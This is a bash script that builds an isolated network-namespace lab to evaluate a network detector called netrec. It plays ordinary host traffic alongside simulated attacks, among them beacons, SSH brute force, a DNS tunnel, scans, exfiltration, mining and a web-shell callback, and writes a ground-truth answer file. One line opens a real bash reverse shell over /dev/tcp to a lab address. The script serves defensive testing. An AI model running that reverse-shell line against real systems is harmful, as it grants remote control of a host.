#!/usr/bin/env bash
# A host under attack, and at its ordinary work: recorded for three minutes, with the truth in a file.
#
#   sudo scripts/attack-lab.sh [target/release/netrec] [FOLDER]
#   cargo run --release --example evaluate -- FOLDER
#
# Two network namespaces: the host (10.77.0.2) and the world outside (5.5.5.0/24 for ordinary services,
# 45.9.9.0/24 for the attacker, 10.77.0.0/24 for neighbours). Every program is a copy of the Python interpreter under its own name
# and in its own folder, except for the shells and two real Python scripts, so that path, name and parent are what netrec sees of a real
# one. Needs root, Python 3 and bash. What it writes outside of FOLDER it removes.
set -euo pipefail

netrec=$(realpath "${1:-target/release/netrec}")
folder=$(realpath "${2:-$(mktemp -d)}")
actors=$(realpath "$(dirname "$0")")/attack-lab/actors.py
seconds=${LAB_SECONDS:-170}
mkdir -p "$folder/lab"

host=netrec-lab-host world=netrec-lab-world
installed=/opt/netrec-lab hidden=/var/tmp/.netrec-lab temporary=/tmp/netrec-lab
python=$(python3 -c 'import os, sys; print(os.path.realpath(sys.executable))')
PYTHONHOME=$(python3 -c 'import sys; print(sys.base_prefix)')
LD_LIBRARY_PATH=$PYTHONHOME/lib
export PYTHONHOME LD_LIBRARY_PATH PYTHONDONTWRITEBYTECODE=1

recorder=
clean_up() {
    [ -z "$recorder" ] || kill "$recorder" 2>/dev/null || true
    for space in "$host" "$world"; do
        # Only what runs in the namespaces of this lab.
        ip netns pids "$space" 2>/dev/null | xargs -r kill 2>/dev/null || true
        ip netns del "$space" 2>/dev/null || true
    done
    rm -rf "$installed" "$hidden" "$temporary" /etc/netns/$host
}
trap clean_up EXIT
clean_up
ip netns add "$host"
ip netns add "$world"
mkdir -p "$installed" "$hidden" "$temporary" /etc/netns/$host
echo "nameserver 5.5.5.53" > /etc/netns/$host/resolv.conf
ip -n "$host" link add lab0 type veth peer name lab1 netns "$world"
ip -n "$host" addr add 10.77.0.2/24 dev lab0
for space in "$host" "$world"; do ip -n "$space" link set lo up; done
ip -n "$host" link set lab0 up
ip -n "$world" link set lab1 up
ip -n "$world" addr add 10.77.0.1/24 dev lab1
ip -n "$host" route add default via 10.77.0.1
for n in $(seq 1 20); do ip -n "$world" addr add "45.9.9.$n/32" dev lo; done
for n in 10 11 12 13 14 53 123; do ip -n "$world" addr add "5.5.5.$n/32" dev lo; done
for n in $(seq 101 110); do ip -n "$world" addr add "10.77.0.$n/24" dev lab1; done

# A program of this name in this folder.
program() {
    [ -e "$1" ] || cp "$python" "$1"
    echo "$1"
}
# Runs one in a namespace: FOLDER/NAME ACTION ARGUMENTS…
on() {
    local space=$1 path
    path=$(program "$2")
    shift 2
    ip netns exec "$space" "$path" "$actors" "$@" >/dev/null 2>&1 &
}
on_host() { on "$host" "$@"; }
outside() { on "$world" "$folder/lab/world" "$@"; }

outside resolve 5.5.5.53 5.5.5.11
outside serve web 5.5.5.10 80 443
outside serve web 5.5.5.11 80 443
outside serve chat 5.5.5.12 993 5222 443
outside serve web 5.5.5.13 8086
outside serve sink 10.77.0.110 873
outside serve web 10.77.0.101 445
outside serve web 10.77.0.102 445
outside serve web 45.9.9.1 443
outside serve web 45.9.9.2 8443
outside serve shell 45.9.9.3 4444
outside serve ssh 45.9.9.6 22
outside serve sink 45.9.9.7 443
outside serve chat 45.9.9.8 3333
outside serve chat 45.9.9.9 8080
outside serve chat 45.9.9.10 8000
outside serve chat 45.9.9.11 2222
on_host "$installed/sshd" serve ssh 10.77.0.2 22
on_host "$installed/node_exporter" serve web 10.77.0.2 9100
sleep 2

echo "recording for $seconds s"
"$netrec" record --udp-bytes --names --duration "${seconds}s" --force -o "$folder/lab/lab.parquet" &
recorder=$!
sleep 5

# Ordinary work.
on_host "$installed/firefox" browse 6
on_host "$installed/apt-get" update deb.debian.org 8 2
on_host "$installed/thunderbird" session 5.5.5.12 993 29
on_host "$installed/telegram" session 5.5.5.12 443 11 120
on_host "$installed/telegraf" poll 5.5.5.13 8086 10
on_host "$installed/restic" upload 10.77.0.110 873 30000000
outside poll 10.77.0.2 9100 5

# The attacker's.
cp "$actors" "$hidden/agent.py"
ip netns exec "$host" "$python" "$hidden/agent.py" poll 45.9.9.1 443 5 0.3 >/dev/null 2>&1 &
(
    for n in $(seq 1 24); do
        ip netns exec "$host" "$(program "$hidden/job$n-$RANDOM")" "$actors" once 45.9.9.2 8443 || true
        sleep 6
    done
) >/dev/null 2>&1 &
ip netns exec "$host" bash -c 'exec bash -i >& /dev/tcp/45.9.9.3/4444 0>&1' >/dev/null 2>&1 &
on_host "$temporary/updated" poll 45.9.9.4 443 4
on "$world" "$folder/lab/guesser" guess 10.77.0.2 22 40 2
on_host "$temporary/hydra" guess 45.9.9.6 22 40 2
on_host "$temporary/dnsd" tunnel 5.5.5.53 t.evil.example 0.5
on_host "$temporary/mapper" scan_ports 10.77.0.1 8000 8044 3
on_host "$temporary/spread" sweep 10.77.0. 445 101 170 0.3
on_host "$temporary/rclone" upload 45.9.9.7 443 20000000
on_host "$temporary/xmrig" session 45.9.9.8 3333 10
on_host "$installed/apache2" call_back 45.9.9.9 8080
on_host "$temporary/chisel" session 45.9.9.10 8000 1
on_host "$temporary/sshx" session 45.9.9.11 2222 45

# A recording that lacks a few packets (exit code 3) is still one to be evaluated.
wait "$recorder" || [ $? -eq 3 ]
recorder=
cat > "$folder/truth.json" <<'TRUTH'
{
 "lab": {
  "benign": true,
  "ordinary": ["firefox", "apt-get", "thunderbird", "telegram", "telegraf", "restic", "node_exporter", "sshd"],
  "positives": [
   {"kind": "beacon", "script": "/var/tmp/.netrec-lab/agent.py", "dst": "45.9.9.1", "dport": 443, "label": "implant with jitter in a hidden folder"},
   {"kind": "beacon", "dst": "45.9.9.2", "dport": 8443, "label": "the same under a new name each time"},
   {"kind": "reverse_shell", "process": "bash", "dst": "45.9.9.3", "dport": 4444, "label": "reverse shell"},
   {"kind": "dead_c2", "process": "updated", "dst": "45.9.9.4", "dport": 443, "label": "dead C2"},
   {"kind": "brute_force", "src": "10.77.0.1", "dst": "10.77.0.2", "dport": 22, "label": "SSH brute force in"},
   {"kind": "brute_force", "process": "hydra", "dst": "45.9.9.6", "dport": 22, "label": "SSH brute force out"},
   {"kind": "dns_tunnel", "process": "dnsd", "dst": "5.5.5.53", "dport": 53, "label": "DNS tunnel"},
   {"kind": "slow_scan", "process": "mapper", "dst": "10.77.0.1", "label": "slow scan"},
   {"kind": "horizontal_scan", "process": "spread", "dport": 445, "label": "SMB sweep"},
   {"kind": "exfil", "process": "rclone", "dst": "45.9.9.7", "dport": 443, "label": "20 MB upload"},
   {"kind": "mining", "process": "xmrig", "dst": "45.9.9.8", "dport": 3333, "label": "miner"},
   {"kind": "web_shell", "process": "bash", "dst": "45.9.9.9", "dport": 8080, "label": "web server whose child calls back"},
   {"kind": "c2_single_connection", "process": "chisel", "dst": "45.9.9.10", "dport": 8000, "label": "port forward"},
   {"kind": "c2_single_connection", "process": "sshx", "dst": "45.9.9.11", "dport": 2222, "label": "long idle session"}
  ]
 }
}
TRUTH
# The servers' programs are no evidence.
rm -f "$folder/lab/world" "$folder/lab/guesser"
echo "evidence in $folder; now: cargo run --release --example evaluate -- $folder"
